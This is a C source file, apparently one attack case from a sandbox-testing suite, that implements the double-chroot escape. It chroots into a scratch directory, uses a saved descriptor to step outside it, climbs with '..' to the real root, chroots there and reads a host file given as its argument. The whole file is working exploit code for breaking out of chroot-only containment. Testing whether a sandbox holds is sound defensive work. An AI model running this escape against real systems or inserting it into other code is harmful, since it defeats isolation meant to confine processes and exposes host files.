/* chroot escape: the double chroot.  chroot() moves the root but not the
 * working directory; a process that chroots into a subdirectory while its
 * cwd stays outside walks up with ".." past the new root to the real one,
 * then chroots there.  Works wherever the "container" is only a chroot
 * (boxlab --no-mnt falls back to one).  ARG: a host file to read. */
#include "attack.h"

#include <fcntl.h>
#include <sys/stat.h>

int main(int argc, char **argv)
{
	char **a = bxa_init(argc, argv, 1, "HOST_FILE");
	char dir[4096], buf[256];
	snprintf(dir, sizeof dir, "%s/bxa-chroot-%s", bxa_scratch, bxa_nonce);
	if (mkdir(dir, 0700) < 0 && errno != EEXIST)
		return bxa_fail("mkdir %s", dir);
	int fd = open("/", O_RDONLY | O_DIRECTORY);
	if (chroot(dir) < 0) {
		bxa_fail("chroot %s", dir);
		rmdir(dir);
		return 0;
	}
	/* (the directory stays: the host removes the scratch dir) */
	/* fchdir back to the old root (outside the new one), then up. */
	if (fd < 0 || fchdir(fd) < 0)
		return bxa_fail("fchdir");
	for (int i = 0; i < 256; i++)
		if (chdir("..") < 0)
			return bxa_fail("chdir ..");
	if (chroot(".") < 0)
		return bxa_fail("chroot .");
	if (bxa_read_file(a[0], buf, sizeof buf) < 0)
		return bxa_fail("out of the chroot, but cannot read %s", a[0]);
	bxa_data(buf);
	bxa_claim(1, "walked out of the chroot and read %s", a[0]);
	return 0;
}
